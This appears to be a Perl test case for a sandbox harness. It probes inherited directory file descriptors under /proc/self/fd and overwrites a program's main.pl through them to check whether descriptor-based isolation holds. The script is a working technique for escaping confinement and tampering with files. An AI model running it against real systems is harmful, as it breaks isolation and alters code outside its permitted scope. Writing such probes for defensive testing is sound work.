# Looks for a descriptor of the program's folder that it has inherited, and changes the program through that.
# defence: descriptors
# cases: 2
for my $folder (grep { -d } map { "/proc/self/fd/$_" } 3 .. 63) {
    for my $path (glob("$folder/*/main.pl")) {
        open(my $file, ">", $path) or next;
        print $file 'print "taken\n";';
    }
}
print "held\n";
